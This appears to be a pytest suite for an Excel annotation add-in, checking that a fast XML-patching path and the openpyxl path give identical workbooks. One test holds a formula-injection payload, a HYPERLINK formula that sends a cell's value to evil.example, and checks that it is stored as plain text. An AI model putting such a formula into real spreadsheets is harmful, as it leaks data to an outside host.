"""The annotated copy made by patching parts shows exactly what the openpyxl path shows."""

from __future__ import annotations

import openpyxl
import pytest
from addin_helpers import FakeReport, finding
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill

from ilrkit.addin import annotate_parts
from ilrkit.addin.annotate import _fill_text, annotate_workbook, clear_file
from ilrkit.addin.plan import ERRORS_SHEET, highlight_plan
from ilrkit.addin.xlsx_parts import Package, Unsupported
from ilrkit.converter.workbook_reader import read_workbook
from ilrkit.rules.engine import validate


def snapshot(path) -> dict:
    """Everything a user sees: sheets, their order and state, and each cell's value, fill, note, format, link."""
    wb = openpyxl.load_workbook(path)
    out: dict = {"sheets": wb.sheetnames, "states": [ws.sheet_state for ws in wb.worksheets],
                 "active": wb.active.title}
    for ws in wb.worksheets:
        cells = {}
        for row in ws.iter_rows():
            for c in row:
                value = None if c.value == "" else c.value
                seen = (value, _fill_text(c.fill), c.comment.text if c.comment else None,
                        c.comment.author if c.comment else None,
                        c.hyperlink.location if c.hyperlink else None, bool(c.font.b), c.data_type == "f")
                if value is not None or seen[1] or seen[2] or seen[4]:
                    cells[c.coordinate] = seen + (c.number_format,)
        out[ws.title] = cells
        out[ws.title + " view"] = (ws.freeze_panes, ws.auto_filter.ref, bool(ws.sheet_view.tabSelected),
                                   len(ws.data_validations.dataValidation), sorted(ws.tables))
    return out


def _both(src, report, tmp_path):
    slow = annotate_workbook(src, tmp_path / "slow.xlsx", report, fast=False)
    fast = annotate_workbook(src, tmp_path / "fast.xlsx", report)
    _well_formed(fast)
    return slow, fast


def _well_formed(path) -> None:
    """Every XML part parses on its own and uses no namespace prefix the worksheet does not declare."""
    import zipfile

    from lxml import etree

    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(zf.read(name))
                assert not name.startswith("xl/worksheets/sheet") or all(not el.prefix or el.prefix in ("x14ac", "mc", "xr", "x14", "mx", "x15", "r")
                           for el in root.iter() if isinstance(el.tag, str)), name


@pytest.fixture
def faulty_provider(tmp_path):
    from ilrkit.generate import generate
    from ilrkit.templates.workbook_writer import write_workbook

    path = tmp_path / "provider.xlsx"
    write_workbook(path, data=generate(40, seed=7, error_rate=0.4).data)
    return path


def test_generated_provider_with_faults_looks_the_same_both_ways(faulty_provider, tmp_path):
    report = validate(read_workbook(faulty_provider))
    assert report.findings, "the faulty provider should have findings"
    plan = highlight_plan(report, sheets=openpyxl.load_workbook(faulty_provider).sheetnames)
    annotate_parts.patch(faulty_provider.read_bytes(), plan)  # the fast path really runs (no fallback)
    slow, fast = _both(faulty_provider, report, tmp_path)
    assert snapshot(fast) == snapshot(slow)


def test_user_fills_and_notes_are_kept_the_same_both_ways(workbook, tmp_path):
    wb = openpyxl.load_workbook(workbook)
    ws = wb["Learners"]
    ws["G2"].fill = PatternFill("solid", fgColor="FF00FF00")
    ws["F3"].fill = PatternFill("solid", fgColor="FF0000FF")  # flagged: its colour goes in the record
    ws["F4"].comment = Comment("keep me", "me")  # flagged: our note must not replace it
    ws["Z40"].value = None
    decorated = tmp_path / "decorated.xlsx"
    wb.save(decorated)  # saved by openpyxl: its own part names for comments and drawings
    report = FakeReport([finding(row=2), finding(row=3, learn_ref="L2"), finding(row=4, learn_ref="L3"),
                         finding(rule="W1", severity="warning", column="H", row=2),
                         finding(row=40, column="Z", learn_ref="L9"),  # a cell and row that do not exist yet
                         finding(sheet="NoSuchSheet", row=2)])
    slow, fast = _both(decorated, report, tmp_path)
    assert snapshot(fast) == snapshot(slow)
    assert snapshot(clear_file(fast, tmp_path / "fast-clear.xlsx")) == \
        snapshot(clear_file(slow, tmp_path / "slow-clear.xlsx"))


def test_a_clean_report_gets_the_summary_line_both_ways(workbook, tmp_path):
    slow, fast = _both(workbook, FakeReport([]), tmp_path)
    assert snapshot(fast) == snapshot(slow)
    assert openpyxl.load_workbook(fast)[ERRORS_SHEET]["F2"].value == "No errors or warnings."


def test_learner_text_on_the_errors_sheet_is_text_not_a_formula(workbook, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?d="&F3,"x")'
    out = annotate_workbook(workbook, tmp_path / "out.xlsx", FakeReport([finding(learn_ref=evil)]))
    ws = openpyxl.load_workbook(out)[ERRORS_SHEET]
    assert ws["C2"].value == evil and ws["C2"].data_type != "f"


def test_an_annotated_workbook_is_annotated_again_through_openpyxl(workbook, tmp_path):
    once = annotate_workbook(workbook, tmp_path / "once.xlsx", FakeReport([finding()]))
    with pytest.raises(Unsupported):
        annotate_parts.patch(once.read_bytes(), highlight_plan(FakeReport([finding(row=3)])))
    again = annotate_workbook(once, tmp_path / "again.xlsx", FakeReport([finding(row=3)]))
    ws = openpyxl.load_workbook(again)["Learners"]
    assert _fill_text(ws["F3"].fill) == "#FF9999" and _fill_text(ws["F2"].fill) == ""


def test_a_macro_workbook_is_left_to_openpyxl(workbook):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(workbook) as src, zipfile.ZipFile(buffer, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("xl/vbaProject.bin", b"not really")
    with pytest.raises(Unsupported):
        annotate_parts.Workbook(Package(buffer.getvalue()))


def _excel_written_xlsx(tmp_path):
    """An .xlsx as Excel writes one (markup-compatibility namespaces, an empty sheetData, shared strings):
    xlwings' quickstart workbook, saved by Excel, without its macros."""
    import re
    import zipfile
    from pathlib import Path

    import xlwings

    src = Path(xlwings.__file__).with_name("quickstart.xlsm")
    if not src.exists():
        pytest.skip("this xlwings version ships no Excel-written quickstart.xlsm")
    out = tmp_path / "excel.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
        for item in zin.infolist():
            if item.filename == "xl/vbaProject.bin":
                continue
            data = zin.read(item)
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = re.sub(rb"<Relationship [^>]*vbaProject[^>]*/>", b"", data)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
            zout.writestr(item, data)
    return out


def test_an_excel_written_workbook_looks_the_same_both_ways(tmp_path):
    src = _excel_written_xlsx(tmp_path)
    report = FakeReport([finding(sheet="Sheet1", row=2, column="B"), finding(sheet="Sheet1", row=5, column="A"),
                         finding(rule="W1", severity="warning", sheet="Sheet1", row=2, column="D")])
    annotate_parts.patch(src.read_bytes(), lambda sheets: highlight_plan(report, sheets=sheets))
    slow, fast = _both(src, report, tmp_path)
    assert snapshot(fast) == snapshot(slow)
    assert openpyxl.load_workbook(fast)["Sheet1"]["B2"].comment.text.startswith("ILR check")
